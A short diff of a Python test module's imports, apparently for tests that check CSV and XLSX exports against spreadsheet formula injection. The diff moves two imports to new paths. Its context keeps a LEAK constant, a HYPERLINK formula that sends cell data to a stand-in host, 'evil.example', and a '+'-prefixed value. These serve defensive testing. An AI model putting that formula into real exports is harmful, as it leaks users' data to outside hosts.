@@ -18,13 +18,13 @@ from temporalio.testing import WorkflowEnvironment
 
 from console.audit.view import as_csv
 from db.engine import make_engine, session_factory, transaction
-from db.models import Order
+from db.orders.models import Order
 from kpis.cells import FORMULA_STARTS, inert
 from kpis.export import to_csv, to_xlsx
 from tests import kpi_fixtures as fx
 from tests.api_harness import Api, api_stack
 from tests.console_harness import sign_in
-from workflows.types import TimelineEntry
+from workflows.order.types import TimelineEntry
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 CARRIER = "+SF-EXPRESS"
